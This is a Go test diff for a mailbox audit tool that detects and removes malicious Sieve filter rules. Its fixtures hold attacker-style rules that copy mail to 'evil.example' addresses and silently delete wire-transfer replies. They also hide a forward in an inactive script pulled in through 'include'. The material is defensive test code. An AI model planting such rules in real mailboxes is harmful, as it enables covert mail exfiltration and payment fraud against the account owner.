@@ -6,6 +6,7 @@ import (
 	"fmt"
 	"maps"
 	"path/filepath"
+	"regexp"
 	"slices"
 	"strings"
 	"testing"
@@ -326,10 +327,16 @@ func TestAuditAndFix(t *testing.T) {
 	if err := ms.AuthenticatePlain("", addr("alice"), mailboxtest.UserPass); err != nil {
 		t.Fatal(err)
 	}
-	script := "require [\"copy\", \"fileinto\"];\r\n# rule:[sync]\r\nredirect :copy \"boite.relais@evil.example\";\r\n" +
+	script := "require [\"copy\", \"fileinto\", \"include\"];\r\n# rule:[sync]\r\nredirect :copy \"boite.relais@evil.example\";\r\n" +
 		"# rule:[clean]\r\nif header :contains \"subject\" [\"RE: virement\", \"TR: virement\"] { discard; stop; }\r\n" +
-		"if header :contains \"list-id\" \"usrp\" { fileinto \"Listes\"; }\r\n"
-	ms.PutScript("roundcube", script)
+		"if header :contains \"list-id\" \"usrp\" { fileinto \"Listes\"; }\r\ninclude :personal \"cache\";\r\n"
+	// An inactive script the active one includes: it runs all the same.
+	if err := ms.PutScript("cache", "require \"copy\";\r\nredirect :copy \"exfil@evil.example\";\r\n"); err != nil {
+		t.Fatal(err)
+	}
+	if err := ms.PutScript("roundcube", script); err != nil {
+		t.Fatal(err)
+	}
 	ms.SetActive("roundcube")
 	ms.Logout()
 	now := time.Now()
@@ -348,8 +355,13 @@ func TestAuditAndFix(t *testing.T) {
 		sigs[f.Signal] = f.Rule.ID
 		t.Logf("%s %s %s", f.Signal, f.Rule.ID, f.FR)
 	}
-	if sigs[mailbox.SigForwardExternal] != "sieve:roundcube#1" || sigs[mailbox.SigRuleDelete] != "sieve:roundcube#2" || sigs[mailbox.SigRuleMove] != "sieve:roundcube#3" {
-		t.Fatalf("findings %v", sigs)
+	if sigs[mailbox.SigRuleDelete] != "sieve:roundcube#2" || sigs[mailbox.SigRuleMove] != "sieve:roundcube#3" || len(res[0].Findings) != 4 {
+		t.Fatalf("findings %v", res[0].Findings)
+	}
+	for _, f := range res[0].Findings {
+		if f.Signal == mailbox.SigForwardExternal && f.Rule.ID == "sieve:cache#1" && f.Rule.Fixable {
+			t.Errorf("a rule of an included script is offered for --fix: %+v", f.Rule)
+		}
 	}
 	fixed := r.Audit(ctx, mailbox.AuditRequest{Incident: id, Mailboxes: []string{addr("alice")}, OwnDomains: []string{domain},
 		Fix: []string{"sieve:roundcube#1", "sieve:roundcube#2"}, By: "rssi"})
@@ -357,7 +369,13 @@ func TestAuditAndFix(t *testing.T) {
 		t.Fatalf("fix: %+v", fixed)
 	}
 	after := r.Audit(ctx, mailbox.AuditRequest{Mailboxes: []string{addr("alice")}, OwnDomains: []string{domain}})
-	if len(after[0].Findings) != 1 || after[0].Findings[0].Signal != mailbox.SigRuleMove {
+	left := map[string]bool{}
+	for _, f := range after[0].Findings {
+		// The rules now run from Vigie's copy of the script.
+		id := regexp.MustCompile(`\.vigie-[0-9T]+#`).ReplaceAllString(f.Rule.ID, "#")
+		left[f.Signal+" "+id] = true
+	}
+	if len(left) != 2 || !left[mailbox.SigRuleMove+" sieve:roundcube#3"] || !left[mailbox.SigForwardExternal+" sieve:cache#1"] {
 		t.Errorf("after the fix: %+v", after[0].Findings)
 	}
 	// The original is still there, inactive.
@@ -366,7 +384,7 @@ func TestAuditAndFix(t *testing.T) {
 	scripts, _ := ms.ListScripts()
 	orig, _ := ms.GetScript("roundcube")
 	ms.Logout()
-	if len(scripts) != 2 || orig != script {
+	if len(scripts) != 3 || orig != script {
 		t.Errorf("scripts after the fix: %+v", scripts)
 	}
 	if !slices.Equal(files, e.d.Files(t, addr("alice"))) || len(diff(snap, e.d.Snapshot(t, addr("alice")))) != 0 {
